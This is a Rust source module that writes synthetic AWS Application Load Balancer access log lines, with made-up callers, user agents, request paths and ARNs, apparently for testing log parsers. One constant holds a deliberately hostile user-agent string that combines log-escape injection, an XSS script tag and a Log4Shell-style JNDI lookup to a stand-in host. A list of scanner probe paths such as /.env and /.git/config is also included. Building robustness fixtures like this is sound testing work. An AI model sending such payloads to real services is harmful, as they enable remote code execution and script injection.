//! One line of an Application Load Balancer's access log as AWS writes it today: 34 fields.
//!
//! Field order and escapes (`\x22` for a quote, `\xHH` for other bytes) follow "Access logs for your Application Load
//! Balancer" in the AWS documentation; the 34th field, the node's address, is in real logs since 2026.

use crate::minute::{Day, Minute};

use super::chance::{Chance, floor, number_of};
use super::fleet::{ACCOUNT, Balancer, Callers, REGION};
use super::traffic::Exchange;

/// User agents of people and robots, as the log escapes them.
const PUBLIC_AGENTS: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "ShopApp/7.4.1 (\\x22Pixel 9\\x22; Android 16)",
    "ShopApp/7.4.0 (iOS 19.1)",
    "curl/8.16.0",
    "-",
    "caf\\xC3\\xA9-monitor/1.0",
];
/// One that tries to break whoever reads it.
const HOSTILE_AGENT: &str =
    "\\x22 503 - - \\x22><script>alert(1)</script>\\x5C\\x22 ${jndi:ldap://198.51.100.9/a} \\xF0\\x9F\\x94\\xA5";
const PARTNER_AGENTS: &[&str] =
    &["okhttp/5.1.0", "Apache-HttpClient/5.5 (Java/21.0.4)", "python-requests/2.32.5", "acme-sync \\x22prod\\x22/3"];
const HOUSE_AGENTS: &[&str] = &["grpc-go/1.75.0", "Go-http-client/2.0", "reqwest/0.12.23", "-"];
/// What scanners ask for.
const SCANS: &[&str] = &["/", "/.env", "/wp-login.php", "/boaform/admin/formLogin", "/actuator/health", "/.git/config"];
const WORDS: &[&str] = &["lamp", "teapot", "desk", "caf%C3%A9", "rug", "chair", "stool", "NL", "DE", "JP"];

/// Writes the lines of one node.
pub(super) struct Writer {
    balancer: &'static Balancer,
    node: &'static str,
    text: Vec<u8>,
    date: Option<(Day, String)>,
}

impl Writer {
    /// An empty log with room for so many bytes.
    pub(super) fn new(balancer: &'static Balancer, node: &'static str, room: usize) -> Self {
        Self { balancer, node, text: Vec::with_capacity(room), date: None }
    }

    /// The log.
    pub(super) fn into_text(self) -> Vec<u8> {
        self.text
    }

    /// One line.
    pub(super) fn write(&mut self, exchange: &Exchange, chance: &mut Chance) {
        let created_us = exchange.time_us - exchange.elapsed_us;
        self.push(exchange.scheme);
        self.push(" ");
        self.time(exchange.time_us);
        self.push(" ");
        self.push(self.balancer.name);
        self.push(" ");
        self.client(exchange.callers, chance);
        self.push(" ");
        self.target(exchange);
        self.times_and_statuses(exchange, chance);
        self.push(" \"");
        self.request(exchange, chance);
        self.push("\" \"");
        let hostile = exchange.callers == Callers::Public && chance.happens(2_000);
        let agent = chance.pick(agents(exchange.callers)).copied().unwrap_or("-");
        self.push(if hostile { HOSTILE_AGENT } else { agent });
        self.push("\" ");
        self.after_the_agent(exchange, created_us, chance);
        self.push("\n");
    }

    /// Fields 6 to 12.
    fn times_and_statuses(&mut self, exchange: &Exchange, chance: &mut Chance) {
        for time_ms in exchange.times_ms {
            let Some(ms) = time_ms else {
                self.push(" -1");
                continue;
            };
            self.push(" ");
            self.number(ms / 1_000, 1);
            self.push(".");
            self.number(ms % 1_000, 3);
        }
        self.push(" ");
        self.number(exchange.status.into(), 3);
        self.push(" ");
        self.status_or_dash(exchange);
        let (received, sent) = exchange.route.map_or((180, 300), |route| route.bytes);
        let sent = if exchange.status >= 400 { 320 } else { sent };
        for middle in [received, if exchange.status == 460 { 0 } else { sent }] {
            self.push(" ");
            self.number(floor(chance.log_normal(middle.into(), 0.3)), 1);
        }
    }

    /// Fields 15 to 34.
    fn after_the_agent(&mut self, exchange: &Exchange, created_us: i64, chance: &mut Chance) {
        let encrypted = exchange.scheme != "http";
        self.push(if encrypted { "TLS_AES_128_GCM_SHA256 TLSv1.3 " } else { "- - " });
        if let Some(group) = exchange.group {
            self.arn("elasticloadbalancing", "targetgroup/", group);
            self.push("/");
            self.hex(Chance::of(&[number_of(group)]).bits(), 16);
        } else {
            self.push("-");
        }
        self.push(" \"");
        if exchange.action == "-" {
            self.push("-");
        } else {
            self.push("Root=1-");
            self.hex(created_us.div_euclid(1_000_000).unsigned_abs(), 8);
            self.push("-");
            self.hex(chance.bits(), 16);
            self.hex(chance.bits(), 8);
        }
        self.push("\" \"");
        if encrypted {
            self.host(exchange);
            self.push("\" \"");
            self.arn("acm", "certificate/", "7d1f0c52-93ab-4e60-8f1d-");
            self.hex(number_of(self.balancer.name), 12);
        } else {
            self.push("-\" \"-");
        }
        self.push("\" ");
        let rule = exchange.service.map_or(0, |service| u64::from(service.rule));
        self.push(if exchange.action == "-" { "-" } else { "" });
        if exchange.action != "-" {
            self.number(rule, 1);
        }
        self.push(" ");
        self.time(created_us);
        self.push(" \"");
        self.push(exchange.action);
        self.push("\" \"");
        if exchange.action == "redirect" {
            self.push("https://");
            self.host(exchange);
            self.push(":443");
            self.push(exchange.route.map_or("/", |route| route.path));
        } else {
            self.push("-");
        }
        self.push("\" \"-\" \"");
        self.target(exchange);
        self.push("\" \"");
        self.status_or_dash(exchange);
        self.push("\" \"-\" \"-\" TID_");
        self.hex(chance.bits(), 16);
        self.hex(chance.bits(), 16);
        self.push(" \"-\" \"-\" \"-\" ");
        self.push(self.node);
    }

    /// The request line: what the caller sent.
    fn request(&mut self, exchange: &Exchange, chance: &mut Chance) {
        if exchange.action == "-" {
            return self.push("- http://shop.example.com:80- -");
        }
        self.push(exchange.route.map_or("GET", |route| route.method));
        self.push(if exchange.scheme == "http" { " http://" } else { " https://" });
        self.host(exchange);
        self.push(if exchange.scheme == "http" { ":80" } else { ":443" });
        match exchange.route {
            Some(route) => self.path(route.path, chance),
            None => self.push(chance.pick(SCANS).copied().unwrap_or("/")),
        }
        self.push(if matches!(exchange.scheme, "h2" | "grpcs") { " HTTP/2.0" } else { " HTTP/1.1" });
    }

    /// A path with its blanks filled in.
    fn path(&mut self, template: &str, chance: &mut Chance) {
        let mut rest = template;
        while let Some((before, after)) = rest.split_once('{') {
            self.push(before);
            let (blank, after) = after.split_once('}').unwrap_or((after, ""));
            match blank {
                "n" => self.number(chance.below(99_000) + 1, 1),
                "x" => self.hex(chance.bits(), 16),
                _ => self.push(chance.pick(WORDS).copied().unwrap_or("lamp")),
            }
            rest = after;
        }
        self.push(rest);
    }

    /// The host that was asked for: of the service, or the bare address that scanners use.
    fn host(&mut self, exchange: &Exchange) {
        match exchange.service {
            Some(service) => {
                self.push(service.name);
                self.push(".example.com");
            }
            None => self.push(self.node),
        }
    }

    /// Address and port of a caller, from ranges that are kept for tests and documentation (RFC 2544, 3849, 5737).
    fn client(&mut self, callers: Callers, chance: &mut Chance) {
        let draw = chance.bits();
        let part = |n: u32| (draw >> (8 * n)) & 0xFF;
        match callers {
            Callers::Public if part(0) < 48 => {
                self.push("2001:db8:");
                self.hex(part(1) | 0x100, 1);
                self.push(":");
                self.hex(part(2) | 0x3200, 1);
                self.push("::");
                self.hex(part(3) | 0x1000, 1);
            }
            Callers::Public => self.address("198.", &[18 + part(0) % 2, part(1), part(2)]),
            Callers::Partners => self.address("192.0.2.", &[10 + part(1) % 6]),
            Callers::House => self.address("10.0.", &[part(1) % 16, 4 + part(2) % 250]),
        }
        self.push(":");
        self.number(1_024 + ((draw >> 32) % 64_000), 1);
    }

    /// Address and port of the target, or a dash.
    fn target(&mut self, exchange: &Exchange) {
        let (Some(target), Some(service)) = (exchange.target, exchange.service) else {
            return self.push("-");
        };
        self.address("10.0.", &[64 + u64::from(service.rule), 10 + target]);
        self.push(":8080");
    }

    fn address(&mut self, start: &str, parts: &[u64]) {
        self.push(start);
        for (place, part) in parts.iter().enumerate() {
            self.push(if place == 0 { "" } else { "." });
            self.number(*part, 1);
        }
    }

    fn status_or_dash(&mut self, exchange: &Exchange) {
        match exchange.target_status {
            Some(status) => self.number(status.into(), 3),
            None => self.push("-"),
        }
    }

    fn arn(&mut self, service: &str, kind: &str, name: &str) {
        for part in ["arn:aws:", service, ":", REGION, ":", ACCOUNT, ":", kind, name] {
            self.push(part);
        }
    }

    /// `2026-10-07T07:15:03.123456Z`.
    fn time(&mut self, time_us: i64) {
        let day = Minute::of_unix_seconds(time_us.div_euclid(1_000_000)).day();
        // Nearly all lines of a file share their day, and writing a date costs more than the rest of a line.
        let date = match self.date.take() {
            Some(known) if known.0 == day => known,
            _ => (day, day.to_string()),
        };
        self.push(&date.1);
        self.date = Some(date);
        let of_day = time_us.rem_euclid(86_400_000_000).unsigned_abs();
        let seconds = of_day / 1_000_000;
        for (mark, number) in [("T", seconds / 3_600), (":", seconds / 60 % 60), (":", seconds % 60)] {
            self.push(mark);
            self.number(number, 2);
        }
        self.push(".");
        self.number(of_day % 1_000_000, 6);
        self.push("Z");
    }

    fn push(&mut self, text: &str) {
        self.text.extend_from_slice(text.as_bytes());
    }

    /// Decimal digits, with zeros in front up to the width.
    fn number(&mut self, number: u64, width: usize) {
        self.digits::<10>(number, width);
    }

    /// The last `width` hexadecimal digits; with a width of 1 or 16, all of them.
    fn hex(&mut self, number: u64, width: usize) {
        let kept = if width >= 16 || width == 1 { number } else { number % (1 << (4 * width)) };
        self.digits::<16>(kept, width);
    }

    /// A base that is known to the compiler needs no division, and digits are most of a line.
    fn digits<const BASE: u64>(&mut self, mut number: u64, width: usize) {
        let mut digits = [b'0'; 20];
        let mut used = 0;
        for slot in digits.iter_mut().rev() {
            if number == 0 && used >= width {
                break;
            }
            let digit = (number % BASE).to_le_bytes()[0];
            *slot = if digit < 10 { b'0' + digit } else { b'a' + digit - 10 };
            number /= BASE;
            used += 1;
        }
        self.text.extend_from_slice(digits.get(digits.len() - used..).unwrap_or_default());
    }
}

/// Who says what they are.
const fn agents(callers: Callers) -> &'static [&'static str] {
    match callers {
        Callers::Public => PUBLIC_AGENTS,
        Callers::Partners => PARTNER_AGENTS,
        Callers::House => HOUSE_AGENTS,
    }
}
